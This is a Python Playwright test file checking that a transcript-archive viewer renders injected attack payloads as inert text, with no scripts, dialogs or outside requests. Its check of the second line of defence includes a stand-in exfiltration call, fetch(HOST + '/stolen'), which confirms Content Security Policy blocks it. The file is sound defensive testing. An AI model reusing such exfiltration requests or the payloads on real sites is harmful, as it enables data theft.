"""Nothing that stands in a session ever runs on the page or leaves it, wherever the page shows it.

Each test also sees, by the fixture `visit`, that there was no dialog, no word on the console, no error and no request
to anywhere else.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from muniment.render.visible import visible
from tests.browser import Seen, expect, until, watched
from tests.page import hostile
from tests.page.conftest import Open, Viewer, enter, serve
from tests.page.inside import assert_inert, inside
from tests.page.test_timeline import CANVAS, home
from tests.page.test_transcript import ready
from tests.render.hostile import HOST, PAYLOADS

HALF = len(PAYLOADS) // 2
VIEWS = {"shell", "diff", "write", "read", "search", "todo", "task", "web", "generic"}
KINDS = {"user", "assistant", "thinking", "tool", "compaction", "event", "unknown", "media"}


@pytest.fixture(scope="module")
def viewer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Viewer]:
    """An archive in which every word is an attack."""
    folder = tmp_path_factory.mktemp("hostile")
    home = folder / ".claude"
    home.mkdir()
    hostile.fill(folder / "store", home)
    yield from serve(folder / "store")


def one_line(words: str) -> str:
    return " ".join(words.split())


def window(number: int, count: int) -> str:
    """The address of the time of some sessions."""
    start = hostile.START + number * hostile.STEP
    times = (start, start + count * hostile.STEP)
    return urlencode({"group": "none", **dict(zip(("from", "to"), map(minute, times), strict=True))})


def minute(time: datetime) -> str:
    return f"{time:%Y-%m-%dT%H:%M}Z"


# -- the first view


_TITLES = """
const box = (await until(() => document.querySelector("a.row"))).closest(".virtual");
const found = new Set(), odd = new Set();
await walk(box, () => {
  for (const one of box.querySelectorAll("a.row .title")) found.add(plain(one));
  for (const one of strange()) odd.add(one);
});
return [[...found], [...odd]];
"""


@pytest.mark.parametrize("of", ["engagements", "sessions"])
def test_the_list_shows_every_payload_as_words(visit: Open, of: str) -> None:
    page = home(visit, f"/?of={of}", size=(1280, 3000))
    titles, odd = inside(page, _TITLES)
    assert set(map(one_line, PAYLOADS)) <= set(titles)
    assert odd == []


_CARDS = """
const [path, wanted] = given;
await go(path);
const canvas = document.querySelector(".timeline canvas");
const found = new Set(), odd = new Set();
const hover = () => {
  const box = canvas.getBoundingClientRect();
  for (let y = 30; y < box.height; y += 9)
    for (let x = 10; x < box.width; x += 12) {
      canvas.dispatchEvent(new PointerEvent("pointermove", { clientX: box.x + x, clientY: box.y + y }));
      if (canvas.style.cursor === "pointer") return [box.x, box.width, box.y + y];
    }
};
await until(hover);
for (const end = performance.now() + 60_000; wanted.some((one) => !found.has(one)) && performance.now() < end; ) {
  const [left, width, y] = await until(hover);
  for (let x = 10; x < width; x += 12) {
    canvas.dispatchEvent(new PointerEvent("pointermove", { clientX: left + x, clientY: y }));
    await new Promise((done) => setTimeout(done));
    const title = document.querySelector(".card .title");
    if (title) found.add(title.textContent);
  }
  for (const one of strange()) odd.add(one);
}
return [wanted.filter((one) => !found.has(one)), [...odd]];
"""


def test_the_card_over_the_timeline_shows_every_payload_as_words(visit: Open) -> None:
    page = home(visit, f"/?{window(0, 24)}", size=(1400, 800))
    for first in range(0, len(PAYLOADS), 24):
        assert inside(page, _CARDS, [f"/?{window(first, 24)}", PAYLOADS[first : first + 24]]) == [[], []]


@pytest.mark.parametrize("group", ["project", "agent", "method", "month"])
def test_lanes_and_density_are_named_after_payloads(visit: Open, group: str) -> None:
    page = home(visit, f"/?group={group}", size=(1280, 900))
    expect(page.locator(CANVAS)).to_have_attribute("aria-label", re.compile(f"{len(PAYLOADS)} engagements"))
    assert_inert(page)


def test_charts_name_every_model_and_project(visit: Open) -> None:
    page = home(visit, size=(1440, 1000))
    for figure in ("Tokens by model", "Tokens by project"):
        chart = page.locator("figure", has_text=figure)
        chart.get_by_role("button", name="All").click()
        names = "all => all.map((one) => one.title)"
        until(page, lambda names=names, chart=chart: set(PAYLOADS) <= set(chart.locator("th span").evaluate_all(names)))
    assert_inert(page)


@pytest.mark.parametrize("facet", ["Project", "Agent", "Model"])
def test_filters_offer_payloads_and_take_them(visit: Open, facet: str) -> None:
    page = home(visit, size=(1280, 900))
    page.get_by_role("button", name=facet, exact=True).click()
    boxes = page.locator(".panel input[type=checkbox]")
    until(page, lambda: boxes.count() > 190)  # a model in angle brackets is none
    assert_inert(page)
    for number in (1, 2, 3):
        boxes.evaluate_all("all => all.filter((one) => !one.checked).at(-1).click()")
        expect(page.locator(".panel input:checked")).to_have_count(number)
    expect(page.get_by_role("tab").first).to_have_text(re.compile(r"^\s*3\s"))
    page.reload()
    expect(page.locator("a.row").first).to_be_visible()
    assert_inert(page)


@pytest.mark.parametrize("half", [0, 1])
def test_what_is_found_is_shown_as_words(visit: Open, half: int) -> None:
    page = visit(f"/?q={hostile.word(half)}", size=(1280, 2000))
    more, found = page.get_by_role("button", name="Show more"), page.locator(".found")
    for shown in (20, 60, 180):
        expect(found.locator("a.hit").nth(2 * min(shown, HALF) - 1)).to_be_attached()
        if shown < HALF:
            more.click()
    wanted = ["".join(p.split()) for number, p in enumerate(PAYLOADS) if number % 2 == half]

    def missing() -> list[str]:
        words = "".join(found.evaluate("one => one.textContent").split())
        return [one for one in wanted if one not in words]

    until(page, missing, [])
    expect(found.locator("mark").nth(HALF - 1)).to_be_attached()
    assert_inert(page)


def test_the_words_of_a_search_are_words(visit: Open) -> None:
    page = home(visit)
    for payload in PAYLOADS[::10]:
        with page.expect_response("**/api/search?**"):
            page.get_by_role("searchbox").fill(payload)
    asked = {"q": f"{PAYLOADS[0]}zzz", "project": PAYLOADS[3], "agent": PAYLOADS[5]}
    page.goto(f"{page.url.split('?')[0]}?{urlencode(asked)}")
    expect(page.get_by_text("Nothing was found for")).to_be_visible()
    assert_inert(page)


# -- one session


_HEADS = """
const wrong = [];
for (const [id, words] of given) {
  await go(`/s/${id}`);
  const head = await until(() => {
    const one = document.querySelector("section.head");
    return one && plain(one.querySelector("h2")) === words && document.querySelector("article .prose") && one;
  });
  const times = plain(head).split(words).length - 1;
  if (times < 6) wrong.push(`${words}: ${times} times`);
  wrong.push(...strange());
}
return wrong;
"""


@pytest.mark.parametrize("part", range(4))
def test_the_head_of_every_session_is_words(visit: Open, part: int) -> None:
    """Title, summary, folder, branch, model, agent, role, tags, and the engagement above the round."""
    page = visit(f"/s/{hostile.name(0)}", size=(1400, 900))
    ready(page)
    ids = [(hostile.name(number), one_line(payload)) for number, payload in enumerate(PAYLOADS)]
    assert inside(page, _HEADS, ids[part::4]) == []


_ROUNDS = """
await go(`/s/${given}`);
const box = await until(() => document.querySelector("section.head")?.closest(".virtual"));
const seen = {}, odd = new Set();
await walk(box, () => {
  for (const one of document.querySelectorAll("article"))
    seen[one.dataset.at] = [Number(one.ariaLabel.split(" ").at(-1)), one.dataset.kind, plain(one).replaceAll(" ", "")];
  for (const one of strange()) odd.add(one);
});
return [Object.values(seen), [...odd]];
"""


def asked(page: Any, viewer: Viewer, path: str) -> Any:
    """What the server says of a session."""
    return page.request.get(f"{viewer.origin}/api/session/{path}", headers=viewer.headers).json()


@pytest.mark.parametrize("part", range(4))
def test_every_block_and_every_tool_is_words(visit: Open, viewer: Viewer, part: int) -> None:
    page = visit(f"/s/{hostile.name(0)}", size=(1280, 6000))
    ready(page)
    for number in range(part, len(hostile.whole_rounds()), 4):
        id_, payloads = hostile.whole_rounds()[number], hostile.of_rounds(number)
        items = asked(page, viewer, f"{id_}/items?count=1000")["items"]
        seen, odd = inside(page, _ROUNDS, id_)
        assert odd == []
        assert len(seen) == len(asked(page, viewer, id_)["items"]["kind"])
        for round_, payload in enumerate(payloads, 1):
            kinds = {kind for at, kind, _ in seen if at == round_}
            assert kinds == KINDS, f"round {round_} of {id_}"
            words = "".join(visible(payload).split())
            assert any(words in text for at, _, text in seen if at == round_), payload
        assert {item["tool"]["view"] for item in items if item["tool"]} == VIEWS


def test_a_subagent_is_words(visit: Open) -> None:
    page = visit(f"/s/{hostile.whole_rounds()[0]}", size=(1280, 6000))
    ready(page)
    page.get_by_role("button", name="Subagent").first.click()
    expect(page.locator("article[data-depth='1']").first).to_be_visible()
    ready(page)
    assert_inert(page)


def test_the_files_of_a_session_are_text(visit: Open, viewer: Viewer) -> None:
    """As the page opens them, and as a person who typed the address would get them."""
    page = visit()
    sessions = [(hostile.name(number), "Document") for number in range(0, len(PAYLOADS), 25)]
    for id_, name in [*sessions, *((id_, "raw") for id_ in hostile.whole_rounds())]:
        page.goto(f"{viewer.origin}/s/{id_}")
        with page.expect_popup() as opened:
            page.get_by_role("link", name=name, exact=True).first.click()
        expect(opened.value.locator("body > pre")).to_have_count(1)
        assert opened.value.evaluate("typeof window.ran") == "undefined"
        assert opened.value.evaluate("document.contentType") in ("text/plain", "application/json")
        opened.value.close()
        got = page.request.get(f"{viewer.origin}/doc/{id_}.md", headers=viewer.headers)
        assert got.headers["content-security-policy"].startswith("sandbox")


def test_edits_bring_words_back(visit: Open) -> None:
    page = visit(f"/s/{hostile.name(3)}", size=(1280, 900))
    ready(page)
    for label in ("summary", "name", "role"):
        page.get_by_title(f"Edit: {label}").click()
        expect(page.get_by_label(label.capitalize(), exact=True)).to_be_focused()
        page.keyboard.type(f"{PAYLOADS[3]} typed")
        page.keyboard.press("Enter")
        expect(page.get_by_title(f"Edit: {label}")).to_contain_text("typed")
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.get_by_label("New tag")).to_be_focused()
    page.keyboard.type(f"{PAYLOADS[5]} typed")
    page.keyboard.press("Enter")
    expect(page.locator(".tag", has_text="typed")).to_be_visible()
    assert_inert(page)


# -- the tests above can fail


def refusal(page: Any, act: str, words: str) -> str:
    """What the browser says of an act."""
    caught = f"words => {{ try {{ ({act})(words); return 'nothing' }} catch (error) {{ return error.name }} }}"
    return page.evaluate(caught, words)


def test_the_second_wall_holds_by_itself(browser: Any, viewer: Viewer) -> None:
    """Where a payload did become markup, the browser would refuse it: no markup from words, no script, no handler."""
    with watched(browser, viewer.origin) as (page, seen):
        enter(page, viewer)
        page.goto(viewer.origin)
        expect(page.locator("a.row").first).to_be_visible()
        put = "words => document.body.insertAdjacentHTML('beforeend', words)"
        assert {refusal(page, put, payload) for payload in PAYLOADS[:24]} == {"TypeError"}
        assert refusal(page, "words => document.body.setAttribute('onclick', words)", "window.ran = 1") == "TypeError"
        page.evaluate(f"() => fetch('{HOST}/stolen').catch(() => 0)")
        refused = ("Content Security Policy", "Trusted")
        until(page, lambda: any(words in line for line in seen.console for words in refused))
        assert page.evaluate("typeof window.ran") == "undefined"
        assert seen.requests == []


def test_what_is_looked_for_would_be_seen(browser: Any, tmp_path: Path) -> None:
    for number, payload in enumerate(PAYLOADS[:24]):
        path = tmp_path / f"{number}.html"
        path.write_text(f"<!doctype html><title>x</title><body>{payload}", errors="replace")
        with watched(browser) as (page, seen):
            page.goto(path.as_uri(), wait_until="commit")
            until(page, lambda page=page, seen=seen: is_suspicious(page, seen))


def is_suspicious(page: Any, seen: Seen) -> bool:
    from playwright.sync_api import Error

    try:
        return bool(seen.dialogs or seen.requests or inside(page, "return strange();"))
    except Error:  # on its way to elsewhere: the request will be noted
        return False
